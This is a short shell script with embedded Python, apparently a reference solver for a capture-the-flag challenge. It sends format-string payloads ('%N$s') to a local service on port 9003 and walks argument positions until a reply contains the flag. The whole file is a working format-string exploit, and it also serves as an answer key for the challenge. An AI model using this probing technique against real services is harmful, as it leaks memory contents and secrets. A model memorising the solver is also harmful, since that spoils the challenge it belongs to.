#!/bin/sh
# Reference solver: walk printf's arguments with %N$s until one is the secret.
python3 - <<'PY'
import socket
for position in range(1, 64):
    connection = socket.create_connection(("127.0.0.1", 9003), timeout=5)
    connection.sendall(f"%{position}$s".encode())
    reply = b""
    while chunk := connection.recv(4096):
        reply += chunk
    if b"FLAG{" in reply:
        print(reply.decode(errors="replace"))
        break
PY
